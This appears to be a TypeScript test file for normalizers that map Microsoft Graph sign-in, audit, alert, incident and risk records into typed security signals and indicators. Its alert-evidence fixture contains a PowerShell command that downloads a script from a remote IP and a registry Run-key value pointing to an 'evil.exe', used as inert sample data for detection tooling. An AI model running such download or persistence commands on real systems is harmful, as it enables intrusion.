// What each check's normalizer makes of a record: time, kind, title, severity mapping, outcome, actor, targets,
// location, indicators, and alert evidence as typed artifacts.
import { describe, expect, it } from 'vitest';
import type { CheckId } from '../../src/core/check-ids.ts';
import { NORMALIZERS, normalize } from '../../src/normalize/normalizers.ts';
import type { NormalizeContext, Signal } from '../../src/signals/signal.ts';

const ctx = (check: CheckId, over: Partial<NormalizeContext> = {}): NormalizeContext => ({
  integration: 'contoso',
  check,
  recordId: 'rec-1',
  version: 'v1',
  tenantId: 'tenant-1',
  time: '2025-06-10T10:00:00Z',
  ...over,
});

const run = (check: CheckId, record: Record<string, unknown>, over: Partial<NormalizeContext> = {}): Signal => normalize(record, ctx(check, over));

function signIn(over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id: 'si-1',
    createdDateTime: '2025-06-10T09:15:41.6195833Z',
    userDisplayName: 'Alice Smith',
    userPrincipalName: 'alice@contoso.com',
    userId: '26BE570A-AE82-4189-B4E2-A37C6808512D',
    appId: 'de8bc8b5-d9f9-48b1-a8ad-b748da725064',
    appDisplayName: 'Office 365',
    ipAddress: '203.0.113.7',
    correlationId: 'd79f5bee-5860-4832-928f-3133e22ae912',
    resourceDisplayName: 'Office 365 Exchange Online',
    resourceId: '00000002-0000-0ff1-ce00-000000000000',
    riskLevelAggregated: 'none',
    riskLevelDuringSignIn: 'none',
    status: { errorCode: 50126, failureReason: 'Invalid username or password', additionalDetails: null },
    deviceDetail: { deviceId: '', displayName: null, operatingSystem: 'Windows 10', browser: 'Edge 124' },
    location: { city: 'Redmond', state: 'Washington', countryOrRegion: 'US', geoCoordinates: { latitude: 47.68, longitude: -122.12 } },
    ...over,
  };
}

describe('every check has a normalizer', () => {
  it('maps each check id to its own function', () => {
    expect(Object.keys(NORMALIZERS).sort()).toEqual(
      ['auditLogs.directoryAudits', 'auditLogs.signIns', 'identityProtection.riskDetections', 'identityProtection.riskyUsers', 'security.alerts_v2', 'security.incidents', 'security.secureScores', 'users'],
    );
  });

  it('copies the identity of the record from the context', () => {
    const s = run('auditLogs.signIns', signIn());
    expect([s.integration, s.check, s.recordId, s.version, s.tenantId]).toEqual(['contoso', 'auditLogs.signIns', 'rec-1', 'v1', 'tenant-1']);
  });
});

describe('sign-ins', () => {
  it('titles a failed sign-in with user, app, IP, code and reason, and rates it low', () => {
    const s = run('auditLogs.signIns', signIn());
    expect(s.title).toBe('Sign-in failed for alice@contoso.com to Office 365 from 203.0.113.7 (50126: Invalid username or password)');
    expect(s.kind).toBe('sign_in');
    expect(s.severity).toBe('low');
    expect(s.outcome).toBe('failure');
  });

  it('reads the time as UTC with milliseconds, truncating Graph seven digits', () => {
    expect(run('auditLogs.signIns', signIn()).time).toBe('2025-06-10T09:15:41.619Z');
    expect(run('auditLogs.signIns', signIn({ createdDateTime: '2025-06-10T09:15:41' })).time).toBe('2025-06-10T09:15:41.000Z');
    expect(run('auditLogs.signIns', signIn({ createdDateTime: '2025-06-10T11:15:41+02:00' })).time).toBe('2025-06-10T09:15:41.000Z');
  });

  it('uses the stored time when the record has none', () => {
    expect(run('auditLogs.signIns', signIn({ createdDateTime: null })).time).toBe('2025-06-10T10:00:00.000Z');
  });

  it('rates a success informational, and a risky one by its risk level', () => {
    const ok = { status: { errorCode: 0, failureReason: null } };
    const s = run('auditLogs.signIns', signIn(ok));
    expect([s.severity, s.outcome, s.title]).toEqual(['informational', 'success', 'Sign-in succeeded for alice@contoso.com to Office 365 from 203.0.113.7']);
    expect(run('auditLogs.signIns', signIn({ ...ok, riskLevelAggregated: 'medium' })).severity).toBe('medium');
    const high = run('auditLogs.signIns', signIn({ riskLevelDuringSignIn: 'High', riskEventTypes_v2: ['anonymizedIPAddress'] }));
    expect(high.severity).toBe('high');
    expect(high.title).toContain('[risk high: anonymizedIPAddress]');
    expect(run('auditLogs.signIns', signIn({ ...ok, riskLevelAggregated: 'hidden' })).severity).toBe('informational');
  });

  it('names the user as actor, the app and resource as targets, and the place as location', () => {
    const s = run('auditLogs.signIns', signIn());
    expect(s.actor).toEqual({ type: 'user', id: '26BE570A-AE82-4189-B4E2-A37C6808512D', name: 'Alice Smith', upn: 'alice@contoso.com' });
    expect(s.targets.map((t) => t.name)).toEqual(['Office 365', 'Office 365 Exchange Online']);
    expect(s.location).toEqual({ city: 'Redmond', state: 'Washington', country: 'US', latitude: 47.68, longitude: -122.12 });
  });

  it('indexes the IP, UPN, ids, names and country, normalized', () => {
    const s = run('auditLogs.signIns', signIn({ ipAddress: '2001:DB8:0:0::7' }));
    expect(s.indicators.ip).toEqual(['2001:db8::7']);
    expect(s.indicators.upn).toEqual(['alice@contoso.com']);
    expect(s.indicators.user_id).toEqual(['26be570a-ae82-4189-b4e2-a37c6808512d']);
    expect(s.indicators.correlation_id).toEqual(['d79f5bee-5860-4832-928f-3133e22ae912']);
    expect(s.indicators.country).toEqual(['us']);
    expect(s.indicators.app_name).toEqual(['office 365', 'office 365 exchange online']);
    expect(s.indicators.device_id).toBeUndefined();
    expect(s.text).toContain('Invalid username or password');
  });
});

describe('directory audits', () => {
  const roleAssignment = {
    id: 'Directory_1',
    category: 'RoleManagement',
    correlationId: 'b662f17a-4e4d-4e1c-9248-cdec180024b2',
    result: 'success',
    resultReason: '',
    activityDisplayName: 'Add member to role',
    activityDateTime: '2025-06-10T08:00:00.1234567Z',
    loggedByService: 'Core Directory',
    operationType: 'Assign',
    initiatedBy: { app: null, user: { id: 'a1', displayName: null, userPrincipalName: 'alice@contoso.com', ipAddress: '198.51.100.4' } },
    targetResources: [
      {
        id: 'b2',
        displayName: null,
        type: 'User',
        userPrincipalName: 'bob@contoso.com',
        modifiedProperties: [
          { displayName: 'Role.DisplayName', oldValue: null, newValue: '"Global Administrator"' },
          { displayName: 'Role.TemplateId', oldValue: null, newValue: '"62e90394-69f5-4237-9190-012177145e10"' },
        ],
      },
    ],
    additionalDetails: [{ key: 'User-Agent', value: 'Mozilla/5.0 Chrome/124.0.0.0' }],
  };

  it('titles a role assignment with the role, the member and who did it, and rates it medium', () => {
    const s = run('auditLogs.directoryAudits', roleAssignment);
    expect(s.title).toBe('Add member to role: Global Administrator → bob@contoso.com, by alice@contoso.com');
    expect([s.kind, s.severity, s.outcome, s.time]).toEqual(['directory_audit', 'medium', 'success', '2025-06-10T08:00:00.123Z']);
    expect(s.actor).toEqual({ type: 'user', id: 'a1', name: null, upn: 'alice@contoso.com' });
    expect(s.targets).toEqual([
      { type: 'user', id: 'b2', name: null, upn: 'bob@contoso.com' },
      { type: 'role', id: null, name: 'Global Administrator', upn: null },
    ]);
    expect(s.indicators.ip).toEqual(['198.51.100.4']);
    expect(s.indicators.upn).toEqual(['alice@contoso.com', 'bob@contoso.com']);
    // A browser version is no IP address.
    expect(s.indicators.ip).not.toContain('124.0.0.0');
  });

  it('rates credential and Conditional Access changes medium and other activities informational', () => {
    const base = { ...roleAssignment, category: 'ApplicationManagement', targetResources: [] };
    expect(run('auditLogs.directoryAudits', { ...base, activityDisplayName: 'Add service principal credentials' }).severity).toBe('medium');
    expect(run('auditLogs.directoryAudits', { ...base, activityDisplayName: 'Update conditional access policy', category: 'Policy' }).severity).toBe('medium');
    expect(run('auditLogs.directoryAudits', { ...base, activityDisplayName: 'Update user', category: 'UserManagement' }).severity).toBe('informational');
  });

  it('names an app initiator as actor and reports a failure with its reason', () => {
    const s = run('auditLogs.directoryAudits', {
      ...roleAssignment,
      result: 'failure',
      resultReason: 'Insufficient privileges',
      initiatedBy: { user: null, app: { appId: 'app-1', displayName: 'MS-PIM', servicePrincipalId: 'sp-1' } },
    });
    expect(s.actor).toEqual({ type: 'app', id: 'app-1', name: 'MS-PIM', upn: null });
    expect(s.outcome).toBe('failure');
    expect(s.title).toBe('Add member to role: Global Administrator → bob@contoso.com, by MS-PIM (failed: Insufficient privileges)');
    expect(s.indicators.service_principal_id).toEqual(['sp-1']);
  });

  it('reads the documentation example spelling "Type" for target types', () => {
    const s = run('auditLogs.directoryAudits', { ...roleAssignment, targetResources: [{ id: 'g1', displayName: 'Finance', Type: 'Group', modifiedProperties: [] }] });
    expect(s.targets).toEqual([{ type: 'group', id: 'g1', name: 'Finance', upn: null }]);
  });
});

describe('alerts and their evidence', () => {
  const alert = (evidence: unknown[], over: Record<string, unknown> = {}): Record<string, unknown> => ({
    id: 'da637551227677560813_-961444813',
    incidentId: '28282',
    title: 'Email messages containing malicious URL removed after delivery',
    severity: 'Medium',
    createdDateTime: '2025-06-10T07:00:00Z',
    lastUpdateDateTime: '2025-06-10T09:00:00Z',
    alertWebUrl: 'https://security.microsoft.com/alerts/da1?tid=t',
    evidence,
    ...over,
  });

  it('titles an alert with its title and maps its severity, unknown ones to low', () => {
    const s = run('security.alerts_v2', alert([]));
    expect([s.kind, s.title, s.severity, s.time, s.outcome, s.actor]).toEqual(['alert', 'Email messages containing malicious URL removed after delivery', 'medium', '2025-06-10T07:00:00.000Z', null, null]);
    expect(run('security.alerts_v2', alert([], { severity: 'unknownFutureValue' })).severity).toBe('low');
    expect(run('security.alerts_v2', alert([], { severity: 'informational' })).severity).toBe('informational');
    expect(run('security.alerts_v2', alert([], { severity: 'HIGH' })).severity).toBe('high');
    expect(s.indicators.alert_id).toEqual(['da637551227677560813_-961444813']);
    expect(s.indicators.incident_id).toEqual(['28282']);
    expect(s.indicators.domain).toEqual(['security.microsoft.com']);
  });

  it('makes mail evidence artifacts with their typed fields and indicators', () => {
    const s = run('security.alerts_v2', alert([
      { '@odata.type': '#microsoft.graph.security.mailboxEvidence', verdict: 'malicious', roles: ['contextual'], displayName: 'Alice', primaryAddress: 'Alice@Contoso.com', upn: 'alice@contoso.com', userAccount: { azureAdUserId: 'u-1', userPrincipalName: 'alice@contoso.com', displayName: 'Alice' } },
      {
        '@odata.type': '#microsoft.graph.security.analyzedMessageEvidence',
        networkMessageId: 'F0A0B0C0-1111-2222-3333-444455556666',
        internetMessageId: '<ABC123@phish.example>',
        subject: 'Invoice overdue',
        senderIp: '192.0.2.10',
        recipientEmailAddress: 'alice@contoso.com',
        p1Sender: { displayName: null, domainName: 'phish.example', emailAddress: 'billing@phish.example' },
        p2Sender: { displayName: 'Payroll', domainName: 'phish.example', emailAddress: 'billing@phish.example' },
        urls: ['https://login.phish.example/verify?id=1'],
        attachmentsCount: 2,
        deliveryAction: 'Delivered',
        deliveryLocation: 'Inbox/folder',
        threats: ['Phish'],
      },
      { '@odata.type': '#microsoft.graph.security.urlEvidence', url: 'https://Evil.Example/x' },
      { '@odata.type': '#microsoft.graph.security.mailClusterEvidence', clusterBy: 'Subject;SenderIp', clusterByValue: 'Invoice overdue;192.0.2.10', emailCount: 3, networkMessageIds: ['n1', 'n2'], query: 'q' },
    ]));
    const [mailbox, message, url, cluster] = s.artifacts;
    expect(mailbox).toMatchObject({ type: 'mailboxEvidence', verdict: 'malicious', roles: ['contextual'], fields: { primaryAddress: 'Alice@Contoso.com', upn: 'alice@contoso.com', displayName: 'Alice' } });
    expect(mailbox?.indicators.mailbox).toEqual(['alice@contoso.com']);
    expect(message?.type).toBe('analyzedMessageEvidence');
    expect(message?.fields).toMatchObject({ sender: 'billing@phish.example', recipientEmailAddress: 'alice@contoso.com', senderIp: '192.0.2.10', subject: 'Invoice overdue', attachmentsCount: 2, deliveryAction: 'Delivered', deliveryLocation: 'Inbox/folder', threats: ['Phish'], urls: ['https://login.phish.example/verify?id=1'] });
    expect(message?.indicators.message_id).toEqual(['abc123@phish.example', 'f0a0b0c0-1111-2222-3333-444455556666']);
    expect(message?.indicators.email).toEqual(['alice@contoso.com', 'billing@phish.example']);
    expect(url?.fields).toEqual({ url: 'https://Evil.Example/x', domain: 'evil.example' });
    expect(cluster?.fields).toMatchObject({ clusterBy: 'Subject;SenderIp', clusterByValue: 'Invoice overdue;192.0.2.10', emailCount: 3, networkMessageIds: ['n1', 'n2'], query: 'q' });
    expect(cluster?.indicators.ip).toEqual(['192.0.2.10']);
    // The artifacts' indicators are the signal's too.
    expect(s.indicators.domain).toEqual(['evil.example', 'login.phish.example', 'phish.example', 'security.microsoft.com']);
    expect(s.indicators.url).toContain('https://Evil.Example/x');
    expect(s.targets).toEqual([{ type: 'user', id: 'u-1', name: 'Alice', upn: 'alice@contoso.com' }]);
  });

  it('makes endpoint evidence artifacts: device, file with hashes, process with command line, registry, ip, cloud app', () => {
    const s = run('security.alerts_v2', alert([
      { '@odata.type': '#microsoft.graph.security.deviceEvidence', mdeDeviceId: '73E7E2DE709DFF64EF64B1D0C30E67FAB63279DB', deviceDnsName: 'pc-1.contoso.com', ipInterfaces: ['10.0.0.5', 'FE80::1'], loggedOnUsers: [{ accountName: 'alice', domainName: 'CONTOSO' }] },
      { '@odata.type': '#microsoft.graph.security.fileEvidence', fileDetails: { fileName: 'evil.exe', filePath: 'C:\\Temp', md5: 'D41D8CD98F00B204E9800998ECF8427E', sha1: null, sha256: '8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec' } },
      { '@odata.type': '#microsoft.graph.security.processEvidence', processId: 4780, processCommandLine: 'powershell.exe -c iwr http://198.51.100.9/p.ps1', imageFile: { fileName: 'powershell.exe' } },
      { '@odata.type': '#microsoft.graph.security.registryValueEvidence', registryHive: 'HKEY_CURRENT_USER', registryKey: 'SOFTWARE\\Run', registryValueName: 'Updater', registryValue: 'C:\\evil.exe' },
      { '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress: '203.0.113.50', countryLetterCode: 'RU', location: { countryName: 'Russia', city: 'Moscow' } },
      { '@odata.type': '#microsoft.graph.security.cloudApplicationEvidence', appId: 11161, displayName: 'Office 365', instanceId: 0 },
    ]));
    expect(s.artifacts.map((a) => a.type)).toEqual(['deviceEvidence', 'fileEvidence', 'processEvidence', 'registryValueEvidence', 'ipEvidence', 'cloudApplicationEvidence']);
    expect(s.indicators.device_id).toEqual(['73e7e2de709dff64ef64b1d0c30e67fab63279db']);
    expect(s.indicators.host).toEqual(['pc-1.contoso.com']);
    expect(s.indicators.ip).toEqual(['10.0.0.5', '198.51.100.9', '203.0.113.50', 'fe80::1']);
    expect(s.indicators.md5).toEqual(['d41d8cd98f00b204e9800998ecf8427e']);
    expect(s.indicators.sha256).toEqual(['8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec']);
    expect(s.indicators.file_path).toEqual(['c:\\temp', 'c:\\temp\\evil.exe']);
    expect(s.indicators.command_line).toEqual(['powershell.exe -c iwr http://198.51.100.9/p.ps1']);
    expect(s.indicators.url).toContain('http://198.51.100.9/p.ps1');
    expect(s.indicators.process_id).toEqual(['4780']);
    expect(s.indicators.registry_key).toEqual(['hkey_current_user\\software\\run', 'software\\run']);
    expect(s.indicators.registry_value).toEqual(['c:\\evil.exe', 'updater']);
    expect(s.indicators.country).toEqual(['ru', 'russia']);
    expect(s.indicators.app_id).toEqual(['11161']);
    expect(s.indicators.user_name).toEqual(['alice', 'contoso\\alice']);
    expect(s.artifacts[2]?.fields.processCommandLine).toBe('powershell.exe -c iwr http://198.51.100.9/p.ps1');
    expect(s.targets).toEqual([
      { type: 'device', id: '73E7E2DE709DFF64EF64B1D0C30E67FAB63279DB', name: 'pc-1.contoso.com', upn: null },
      { type: 'app', id: '11161', name: 'Office 365', upn: null },
    ]);
  });

  it('compares evidence type names case-insensitively', () => {
    const s = run('security.alerts_v2', alert([{ '@odata.type': '#Microsoft.Graph.Security.URLEVIDENCE', url: 'https://a.example/' }]));
    expect(s.artifacts[0]?.type).toBe('urlEvidence');
  });

  it('keeps an unknown evidence type with every string it holds, by JSON path, and its indicators', () => {
    const ev = {
      '@odata.type': '#microsoft.graph.security.quantumEvidence',
      verdict: 'suspicious',
      roles: ['attacker'],
      endpoint: { address: '198.51.100.77', names: ['q.example', 'mallory@evil.example'] },
      count: 3,
    };
    const s = run('security.alerts_v2', alert([ev]));
    expect(s.artifacts[0]).toEqual({
      type: 'unknown:#microsoft.graph.security.quantumEvidence',
      fields: { verdict: 'suspicious', 'roles[0]': 'attacker', 'endpoint.address': '198.51.100.77', 'endpoint.names[0]': 'q.example', 'endpoint.names[1]': 'mallory@evil.example' },
      verdict: 'suspicious',
      roles: ['attacker'],
      indicators: { ip: ['198.51.100.77'], email: ['mallory@evil.example'] },
    });
    expect(s.indicators.email).toEqual(['mallory@evil.example']);
  });
});

describe('incidents', () => {
  it('titles an incident with its display name and maps PascalCase severity', () => {
    const s = run('security.incidents', {
      id: '2972395',
      displayName: 'Multi-stage incident',
      severity: 'Medium',
      status: 'Active',
      createdDateTime: '2021-08-13T08:43:35.5533333Z',
      assignedTo: 'KaiC@contoso.onmicrosoft.com',
      summary: 'Activity related to bob@contoso.com was correlated.',
      comments: [{ comment: 'Demo incident', createdBy: 'DavidS@contoso.onmicrosoft.com' }],
    });
    expect([s.kind, s.title, s.severity, s.time]).toEqual(['incident', 'Multi-stage incident', 'medium', '2021-08-13T08:43:35.553Z']);
    expect(s.indicators.incident_id).toEqual(['2972395']);
    expect(s.indicators.upn).toEqual(['davids@contoso.onmicrosoft.com', 'kaic@contoso.onmicrosoft.com']);
    expect(s.indicators.email).toEqual(['bob@contoso.com']);
    expect(s.text).toContain('Demo incident');
  });

  it('takes the evidence of expanded alerts as its artifacts', () => {
    const s = run('security.incidents', {
      id: '1',
      displayName: 'x',
      severity: 'unknown',
      alerts: [{ id: 'a1', title: 'Alert one', evidence: [{ '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress: '192.0.2.1' }] }],
    });
    expect(s.severity).toBe('low');
    expect(s.artifacts.map((a) => a.type)).toEqual(['ipEvidence']);
    expect(s.indicators.alert_id).toEqual(['a1']);
    expect(s.indicators.ip).toEqual(['192.0.2.1']);
  });
});

describe('risk detections', () => {
  it('titles a detection with event type, level and user, and rates it by risk level', () => {
    const s = run('identityProtection.riskDetections', {
      id: 'rd1',
      riskEventType: 'unfamiliarFeatures',
      riskLevel: 'high',
      riskState: 'atRisk',
      userId: 'u1',
      userPrincipalName: 'alice@contoso.com',
      detectedDateTime: '2025-06-10T08:00:00Z',
      activityDateTime: '2025-06-10T07:55:00Z',
      lastUpdatedDateTime: '2025-06-10T09:00:00Z',
      location: { city: 'Lagos', countryOrRegion: 'NG', geoCoordinates: null },
      additionalInfo: JSON.stringify([{ Key: 'userAgent', Value: 'Mozilla/5.0 Chrome/124.0.0.0' }, { Key: 'relatedLocation', Value: { clientIP: '192.0.2.44', city: 'Redmond' } }]),
    });
    expect([s.kind, s.title, s.severity, s.time]).toEqual(['risk_detection', 'unfamiliarFeatures (high) for alice@contoso.com', 'high', '2025-06-10T08:00:00.000Z']);
    expect(s.location).toEqual({ city: 'Lagos', state: null, country: 'NG', latitude: null, longitude: null });
    expect(s.indicators.ip).toEqual(['192.0.2.44']);
    expect(s.text).toContain('Mozilla/5.0 Chrome/124.0.0.0');
    expect(s.actor?.upn).toBe('alice@contoso.com');
  });

  it('maps hidden to low and none to informational, and survives additionalInfo that is not JSON', () => {
    const base = { id: 'rd', riskEventType: 'generic', additionalInfo: 'not json 192.0.2.8' };
    expect(run('identityProtection.riskDetections', { ...base, riskLevel: 'hidden' }).severity).toBe('low');
    const none = run('identityProtection.riskDetections', { ...base, riskLevel: 'none' });
    expect(none.severity).toBe('informational');
    expect(none.indicators.ip).toEqual(['192.0.2.8']);
  });
});

describe('risky users', () => {
  const risky = (riskLevel: string, riskState: string): Signal =>
    run('identityProtection.riskyUsers', { id: 'u1', userPrincipalName: 'alice@contoso.com', userDisplayName: 'Alice', riskLevel, riskState, riskLastUpdatedDateTime: '2025-06-10T08:00:00Z' });

  it('rates a confirmed compromise critical, closed risks informational, open ones by level', () => {
    expect(risky('high', 'confirmedCompromised').severity).toBe('critical');
    expect(risky('none', 'remediated').severity).toBe('informational');
    expect(risky('medium', 'atRisk').severity).toBe('medium');
    expect(risky('medium', 'atRisk').title).toBe('Risky user alice@contoso.com (medium, atRisk)');
    expect(risky('medium', 'atRisk').targets).toEqual([{ type: 'user', id: 'u1', name: 'Alice', upn: 'alice@contoso.com' }]);
  });
});

describe('secure scores', () => {
  it('titles the score with its maximum and percentage, informational', () => {
    const s = run('security.secureScores', { id: 't_2025-06-10', currentScore: 412.5, maxScore: 560, createdDateTime: '2025-06-10T00:00:00Z', controlScores: [{ controlName: 'AdminMFAV2', controlCategory: 'Identity' }] });
    expect([s.kind, s.title, s.severity, s.time]).toEqual(['secure_score', 'Secure score 412.5/560 (73.7 %)', 'informational', '2025-06-10T00:00:00.000Z']);
    expect(s.text).toContain('AdminMFAV2');
  });
});

describe('users', () => {
  const user = { id: 'U1', userPrincipalName: 'Alice@Contoso.com', displayName: 'Alice', mail: 'alice@contoso.com' };

  it('calls a user created within a day of the change, changed otherwise, deleted when removed', () => {
    expect(run('users', { ...user, createdDateTime: '2025-06-10T02:00:00Z' }).title).toBe('User Alice@Contoso.com (created)');
    expect(run('users', { ...user, createdDateTime: '2024-01-01T00:00:00Z' }).title).toBe('User Alice@Contoso.com (changed)');
    const removed = run('users', { id: 'U1', '@removed': { reason: 'deleted' } });
    expect([removed.kind, removed.title]).toEqual(['user_deleted', 'User U1 (deleted)']);
    expect(removed.indicators.user_id).toEqual(['u1']);
  });

  it('uses the time the change was received and indexes the user', () => {
    const s = run('users', user);
    expect([s.kind, s.time, s.severity]).toEqual(['user', '2025-06-10T10:00:00.000Z', 'informational']);
    expect(s.indicators).toEqual({ email: ['alice@contoso.com'], upn: ['alice@contoso.com'], user_id: ['u1'], user_name: ['alice'] });
  });
});

describe('record times', () => {
  it('treats .NET MinValue and unparseable times as absent, and reads offsets into UTC', () => {
    const at = (createdDateTime: unknown): string => run('auditLogs.signIns', signIn({ createdDateTime })).time;
    expect(at('0001-01-01T00:00:00Z')).toBe('2025-06-10T10:00:00.000Z');
    expect(at('String (timestamp)')).toBe('2025-06-10T10:00:00.000Z');
    expect(at(1718000000000)).toBe('2025-06-10T10:00:00.000Z');
    expect(at('2025-06-10T09:15:41.6195833+02:00')).toBe('2025-06-10T07:15:41.619Z');
  });

  it('falls back to the epoch only when the stored time does not parse either', () => {
    expect(run('users', { id: 'u' }, { time: 'garbage' }).time).toBe('1970-01-01T00:00:00.000Z');
  });
});
